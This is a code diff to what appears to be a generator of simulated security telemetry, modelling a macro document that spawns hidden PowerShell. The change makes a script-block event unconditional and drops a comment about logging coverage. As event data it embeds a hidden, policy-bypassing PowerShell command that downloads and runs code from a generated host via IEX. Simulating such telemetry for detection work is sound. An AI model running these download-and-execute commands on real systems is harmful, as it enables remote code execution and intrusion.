@@ -43,13 +43,11 @@ export function tellMacroDocument(day: Day, desk: Desk, at: Micros, seen: boolea
     parent: word,
     commandLine: `powershell.exe -w hidden -nop -ep bypass -c "& '${payload}'; IEX ((New-Object Net.WebClient).DownloadString('https://${name}/a'))"`,
   });
-  // Script block logging is part of PowerShell, so it would survive Sysmon; it is off where telemetry is thin.
-  if (seen)
-    sensor.runsScript(
-      later(spawned, 1200),
-      powershell,
-      `IEX ((New-Object Net.WebClient).DownloadString('https://${name}/a'))`,
-    );
+  sensor.runsScript(
+    later(spawned, 1200),
+    powershell,
+    `IEX ((New-Object Net.WebClient).DownloadString('https://${name}/a'))`,
+  );
   sensor.resolves(later(spawned, 1900), powershell, name, address);
   sensor.connects(later(spawned, 2200), powershell, address, 443);
   sensor.ends(later(spawned, 340_000), powershell);
